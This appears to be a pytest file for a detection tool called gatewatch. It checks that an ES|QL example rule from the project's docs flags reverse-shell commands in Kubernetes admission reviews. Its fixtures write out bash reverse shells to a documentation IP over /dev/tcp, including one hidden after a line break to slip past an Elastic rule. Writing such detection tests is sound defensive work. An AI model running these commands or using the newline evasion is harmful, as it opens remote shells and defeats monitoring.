"""docs/rules.md "ES|QL": the example rule loads and does what the text says, and every
function the section lists is one gatewatch evaluates."""
from __future__ import annotations

import re
import tomllib
from pathlib import Path

import pytest

from gatewatch.documents import document_from_admission_review
from gatewatch.esql import execute
from gatewatch.esql.functions import FUNCTIONS
from gatewatch.rules import load_rules_text
from test_esql_admission import CORPUS, REVERSE_SHELL
from test_esql_corpus import review

DOC = Path(__file__).resolve().parents[1] / "docs" / "rules.md"


def section() -> str:
    text = DOC.read_text()
    start = text.index("\n## ES|QL\n")
    return text[start:text.index("\n## ", start + 1)]


@pytest.fixture(scope="module")
def example_rule():
    block = re.search(r"```yaml\n(.*?)```", section(), re.DOTALL).group(1)
    (rule,) = load_rules_text(block, file="docs/rules.md").rules
    return rule


LINE_BREAK_SHELL = ["bash", "-c", "true\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]


@pytest.mark.parametrize("command, matches", [
    (["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"], True),
    (LINE_BREAK_SHELL, True),
    (["bash", "-c", "echo > /dev/tcp/127.0.0.1/8080; bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"], True),
    (["bash", "-c", "echo ping > /dev/tcp/127.0.0.1/8080"], False),
    (["bash", "-i"], False),
    (["sh"], False),
])
def test_the_example_rule(example_rule, command, matches):
    assert example_rule.matcher(document_from_admission_review(review(command))) is matches


@pytest.mark.skipif(not (CORPUS / REVERSE_SHELL).is_file(), reason=f"no Elastic rule corpus in {CORPUS}")
def test_a_line_break_hides_the_command_from_elastics_rule_as_the_section_says():
    query = tomllib.loads((CORPUS / REVERSE_SHELL).read_text())["rule"]["query"]
    document = document_from_admission_review(review(LINE_BREAK_SHELL))
    assert execute(query, [document]) == []


def test_every_listed_function_is_evaluated():
    table = section()
    listed = set()
    for row in re.findall(r"^\| (?:functions|aggregates \(STATS\)) \| (.*) \|$", table, re.MULTILINE):
        listed |= {name.lower() for name in re.findall(r"`([A-Z_]+)`", row)}
    assert len(listed) > 50
    special = {"case", "coalesce", "kql", "now", "count", "count_distinct", "values", "min", "max", "sum", "avg",
               "where"}  # CASE, COALESCE, KQL and NOW are compiled specially; STATS ... WHERE is a filter
    assert listed - special <= set(FUNCTIONS), listed - special - set(FUNCTIONS)
